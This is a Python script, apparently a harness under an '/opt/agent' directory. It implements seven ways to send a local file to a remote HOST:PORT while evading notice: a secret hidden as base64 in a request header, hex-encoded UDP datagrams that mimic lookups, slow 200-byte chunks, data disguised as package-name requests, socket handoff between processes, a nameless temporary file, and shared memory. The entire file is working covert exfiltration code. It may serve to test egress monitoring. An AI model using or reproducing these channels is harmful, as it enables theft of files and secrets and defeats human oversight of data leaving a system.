"""carrier.py WAY FILE TO [OTHER]: ways by which a file leaves, each checked to have arrived. TO is HOST:PORT.

header: a second file, OTHER, stands in the head of the request that brings the first · trickle: datagrams like lookups, the next when the
one before was answered · pieces: 200 bytes at a time, with pauses · packages: asked for as names of packages, one by one · given: who
reads it gets a socket that another process connected · unlinked: a program inherits a file that has no name any more · shared: by
memory that two processes share
"""
import _socket, binascii, mmap, posix, sys, time

sys.path.append("/opt/agent")
from peer import connect, ended

way, path, to, *other = sys.argv[1:]


def whole(path):
    file, parts = posix.open(path, posix.O_RDONLY), []
    while part := posix.read(file, 4096):
        parts.append(part)
    posix.close(file)
    return b"".join(parts)


def succeeded(child):
    if posix.waitpid(child, 0)[1]:
        sys.exit(3)


def header():
    text, secret = whole(path), whole(other[0])
    peer = connect(to)
    peer.sendall(b"POST /summary\nX-Request-Id: %s\n" % binascii.b2a_base64(secret) + text)
    ended(peer)


def trickle():
    text = binascii.b2a_hex(whole(path))
    host, port = to.rsplit(":", 1)
    link = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    link.settimeout(3)
    for number, at in enumerate(range(0, min(len(text), 240), 40)):
        link.sendto(b"\0%c\1\0" % number + text[at : at + 40], (host, int(port)))
        if link.recv(64)[1] != number:
            sys.exit(9)
        time.sleep(0.7)


def pieces():
    text = whole(path)
    for at in range(0, min(len(text), 1600), 200):
        peer = connect(to)
        peer.sendall(b"POST /part/%d\n" % at + text[at : at + 200])
        ended(peer)
        time.sleep(0.4)


def packages():
    text = binascii.b2a_hex(whole(path)[-160:]).decode()
    for at in range(0, len(text), 32):
        peer = connect(to)
        peer.sendall(f"GET /@{text[at : at + 32]}/index.json\n".encode())
        ended(peer)
        time.sleep(0.5)


def given():
    here, there = _socket.socketpair(_socket.AF_UNIX, _socket.SOCK_STREAM)
    child = posix.fork()
    if child == 0:
        here.close()
        _, control, _, _ = there.recvmsg(8, _socket.CMSG_SPACE(4))
        link = _socket.socket(fileno=int.from_bytes(control[0][2], "little"))
        link.sendall(whole(path))
        ended(link)
        posix._exit(0)
    there.close()
    link = connect(to)
    here.sendmsg([b"a link"], [(_socket.SOL_SOCKET, _socket.SCM_RIGHTS, link.fileno().to_bytes(4, "little"))])
    link.close()
    succeeded(child)


def unlinked():
    name = f"/tmp/.{posix.getpid()}"
    file = posix.open(name, posix.O_RDWR | posix.O_CREAT | posix.O_EXCL, 0o600)
    posix.unlink(name)
    posix.write(file, whole(path))
    posix.lseek(file, 0, 0)
    command = ["/usr/bin/python3", "-I", "-S", "/opt/agent/sender.py", to]
    succeeded(posix.posix_spawn(command[0], command, {}, file_actions=[(posix.POSIX_SPAWN_DUP2, file, 0)]))


def shared():
    memory = mmap.mmap(-1, 4096)
    child = posix.fork()
    if child == 0:
        while memory[0] == 0:
            time.sleep(0.05)
        peer = connect(to)
        peer.sendall(memory[2 : 2 + memory[1]])
        ended(peer)
        posix._exit(0)
    text = whole(path)[:250]
    memory[2 : 2 + len(text)] = text
    memory[1] = len(text)
    memory[0] = 1
    succeeded(child)


WAYS = {each.__name__: each for each in (header, trickle, pieces, packages, given, unlinked, shared)}
WAYS[way]()
